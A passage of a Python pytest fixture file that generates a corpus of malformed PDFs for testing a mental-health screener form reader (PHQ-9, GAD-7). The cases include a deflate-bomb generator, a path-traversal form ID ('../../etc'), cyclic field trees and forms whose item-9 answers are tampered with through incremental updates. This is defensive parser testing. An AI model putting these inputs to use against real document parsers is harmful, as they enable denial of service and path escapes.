    data = co.compress(b"4 0 << /Fields [] >>") + b"".join(co.compress(b" " * 2**20) for _ in range(100))
    data += co.flush()
    objs = {1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 4 0 R >>",
            2: b"<< /Type /Pages /Kids [] /Count 0 >>",
            3: b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(data)
               + data + b"\nendstream"}
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for n, body in objs.items():
        offsets[n] = len(out)
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref_at = len(out)

    def row(kind: int, a: int, b: int) -> bytes:
        return bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(2, "big")

    rows = row(0, 0, 65535) + b"".join(row(1, offsets[n], 0) for n in (1, 2, 3)) + row(2, 3, 0) + row(1, xref_at, 0)
    out += (b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(rows)
            + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)
    return bytes(out)


def _bytes(make: Callable[[], bytes]) -> Callable[[Path], None]:
    """Write what ``make()`` returns; made once per test process (the golden test and the
    hostile-input test of a case both need it, and some take seconds to draw)."""
    once = functools.cache(make)
    return lambda path: path.write_bytes(once())


FORM_CASES: dict[str, Callable[[Path], None]] = {
    "not-a-pdf-text": _bytes(lambda: b"client: {id: C-0042}\ndate: 2026-11-21\n"),
    "empty-file": _bytes(lambda: b""),
    "png-named-pdf": _bytes(lambda: b"\x89PNG\r\n\x1a\n" + b"\x00" * 200),
    "header-only": _bytes(lambda: b"%PDF-1.7\n"),
    "header-then-garbage": _bytes(lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40),
    "truncated-half": _bytes(lambda: _filled()[: len(_filled()) // 2]),
    "truncated-tail": _bytes(lambda: _filled()[:-2000]),
    "encrypted": _bytes(_encrypted),
    "printable-not-fillable": _bytes(lambda: _make_form("phq9", fillable=False)),
    "plain-pdf-no-form": _bytes(lambda: _canvas_pdf(lambda c: (c.drawString(72, 720, "hello"), c.showPage()))),
    "foreign-form": _bytes(lambda: _canvas_pdf(_foreign_form)),
    "marker-removed": _bytes(lambda: _drop_field("toolkit_form")),
    "marker-not-ours": _bytes(lambda: _marker("hello world")),
    "marker-newer-format": _bytes(lambda: _marker("cry-toolkit-form/2 phq9@1.0 gad7@1.0")),
    "marker-path-like-id": _bytes(lambda: _marker("cry-toolkit-form/1 ../../etc@1.0")),
    "marker-number": _bytes(lambda: _set("toolkit_form", "/V", NumberObject(7))(_filled())),
    "unknown-screener": _bytes(lambda: _marker("cry-toolkit-form/1 phq9@1.0 bdi2@1.0")),
    "other-version": _bytes(lambda: _marker("cry-toolkit-form/1 phq9@0.9 gad7@1.0")),
    "extra-field": _bytes(lambda: _add_field("phq9:q99")),
    "field-removed": _bytes(lambda: _drop_field("gad7:q3")),
    "tick-not-an-option": _bytes(lambda: _set("phq9:q1", "/V", NameObject("/7"))(_filled())),
    "tick-a-number": _bytes(lambda: _set("phq9:q1", "/V", NumberObject(2))(_filled())),
    "two-boxes-ticked": _bytes(_two_ticked),
    "stored-and-shown-disagree": _bytes(lambda: _stored_and_shown("phq9:q1", NameObject("/2"), "1")),
    "stored-but-no-box-shown": _bytes(lambda: _stored_and_shown("phq9:q3", TextStringObject("2"), None)),
    "shown-but-stored-off": _bytes(lambda: _stored_and_shown("gad7:q2", NameObject("/Off"), "3")),
    "item-9-stored-0-shown-3": _bytes(lambda: _stored_and_shown("phq9:q9", NameObject("/0"), "3")),
    # issue 14: the filled PHQ-9 form (item 9 "Nearly every day") changed by an incremental update
    "update-item-9-stored-0": _bytes(_updated(_q9_stored_0)),
    "update-item-9-boxes-off": _bytes(_updated(_q9_boxes_off)),
    "update-item-9-box-value-0": _bytes(_updated(_q9_widget_value_0)),
    "update-item-9-second-box": _bytes(_updated(_q9_second_box)),
    "update-item-9-box-moved-off-page": _bytes(_updated(_q9_box_off_the_page)),
    "update-item-9-boxes-hidden": _bytes(_updated(_q9_hidden_0)),
    "update-item-9-looks-swapped": _bytes(_updated(_q9_looks_swapped)),
    "update-item-9-box-without-size": _bytes(_updated(_q9_box_without_size)),
    "saved-51-times": _bytes(_many_updates),
    # ... and the same changes with the whole file written again (one saved version)
    "box-value-disagrees": _bytes(_rewritten(_q9_widget_value_0)),
    "ticked-box-moved-off-page": _bytes(_rewritten(_q9_box_off_the_page)),
    "ticked-box-hidden": _bytes(_rewritten(_q9_hidden_0)),
    "ticked-box-without-size": _bytes(_rewritten(_q9_box_without_size)),
    "box-looks-swapped": _bytes(_rewritten(_q9_looks_swapped)),
    "client-id-empty": _bytes(lambda: _filled(client_id="")),
    "client-id-spaces": _bytes(lambda: _filled(client_id="   ")),
    "client-id-zero-width": _bytes(lambda: _filled(client_id="C-\u200d0042")),  # issue 14
    "client-id-nbsp": _bytes(lambda: _filled(client_id="C-\u00a00042")),
    "client-id-not-text": _bytes(lambda: _set("client_id", "/V", ArrayObject([NumberObject(1)]))(_filled())),
    "date-us-order": _bytes(lambda: _filled(date="11/21/2026")),
    "date-impossible": _bytes(lambda: _filled(date="2026-02-30")),
    "date-empty": _bytes(lambda: _filled(date="")),
    "nothing-ticked": _bytes(lambda: _fill(_form(), {}, {"client_id": FORM_CLIENT_ID, "date": FORM_DATE})),
    "kids-cycle": _bytes(_kids_cycle),
    "fields-nested-deep": _bytes(_deep),
    "many-fields": _bytes(lambda: _canvas_pdf(_many_fields)),
    "many-pages": _bytes(lambda: _canvas_pdf(_many_pages)),
    "deflate-bomb": _bytes(_deflate_bomb),
    "oversized": _oversized,
    "a-folder": lambda path: path.mkdir(),
    "missing": lambda path: None,
}


class BadForms:
    """The filled-form corpus: ``make(case, path)`` writes the case's file."""

    DIR = DATA / "bad_forms"
    CASES = FORM_CASES
    CHANGED = CHANGED_FORMS
    UPDATES = tuple(case for case in FORM_CASES if case.startswith("update-"))
    CLIENT_ID, CLIENT_NAME, DATE = FORM_CLIENT_ID, FORM_CLIENT_NAME, FORM_DATE

    def make(self, case: str, path: Path) -> None:
        self.CASES[case](path)

    @staticmethod
    def marker(value: str) -> bytes:
        """A filled form whose hidden marker field says ``value``."""
        return _marker(value)


@pytest.fixture(scope="session")
def bad_forms() -> BadForms:
    return BadForms()


# --- parametrising over a corpus -----------------------------------------------------------------------

def _corpora() -> dict[str, list[str]]:
    handout_files, handout_folders = _stems("broken_handouts", "*.yaml"), _folders("broken_handouts")
    return {
        "screener_case": _stems("broken_screeners", "*.yaml"),
        "intake_file": sorted(p.name for p in (DATA / "bad_intakes").iterdir()
                              if p.is_file() and p.suffix != ".errors"),
        "runtime_intake": sorted(RUNTIME_INTAKES),
        "export_case": sorted(EXPORT_CASES),
        "form_case": sorted(FORM_CASES),
        "practice_case": _folders("broken_practices"),
        "damaged_font": DAMAGED_FONT_CASES,
        "handout_file_case": handout_files,
        "handout_folder_case": handout_folders,
        "handout_case": sorted(handout_files + handout_folders),
    }


CORPORA = _corpora()


@pytest.fixture(scope="session")
def corpora() -> dict[str, list[str]]:
    """Corpus name -> its cases, as the tests that name the corpus are parametrised."""
    return CORPORA


def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
    """A test with an argument named after a corpus (``screener_case``, ``form_case``, ...)
    runs once per case of that corpus, the case's name as its id."""
    for name, cases in CORPORA.items():
        if name in metafunc.fixturenames:
            metafunc.parametrize(name, cases)
